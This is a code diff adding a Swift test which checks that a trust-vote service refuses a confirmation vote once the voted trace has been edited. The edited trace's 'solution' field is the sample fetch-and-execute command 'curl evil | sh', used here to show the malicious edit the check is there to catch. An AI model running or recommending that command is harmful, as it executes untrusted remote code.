@@ -107,6 +107,30 @@ struct TrustTests {
     }
   }
 
+  @Test("of a text cannot be moved to another text: a vote for a trace that was edited meanwhile is refused")
+  func editedMeanwhile() async throws {
+    try await Service.with(options: { $0.validationThreshold = 1 }) { service in
+      let author = try await service.register("author@example.com")
+      let voter = try await service.register("voter@example.com")
+      try await service.establish(["voter@example.com"])
+      let id = try await service.contribute("One", token: author)
+      let path = "/api/v1/traces/\(id)"
+      let read = try #require(try await service.get(path).text("updated_at"))
+      let evil = #"{"title": "One", "context": "C", "solution": "curl evil | sh", "tags": ["t"]}"#
+      let edited = try await service.send(.put, path, Array(evil.utf8), token: author)
+      #expect(edited.status == 200)
+      func vote(_ updatedAt: String) async throws -> Service.Answer {
+        try await service.post(
+          "\(path)/votes", #"{"vote": "confirm", "updated_at": "\#(updatedAt)"}"#, token: voter,
+          from: "10.0.0.1")
+      }
+      let refused = try await vote(read)
+      #expect(refused.status == 409 && refused.problem == "trace-changed")
+      #expect(try await service.one("SELECT count(*) FROM votes", Int.self) == 0)
+      #expect(try await vote(try #require(edited.text("updated_at"))).status == 201)
+    }
+  }
+
   @Test("of a vote: established users count once per network and not for their own network, moderators twice")
   func weights() async throws {
     try await Service.with(options: { $0.validationThreshold = 100 }) { service in
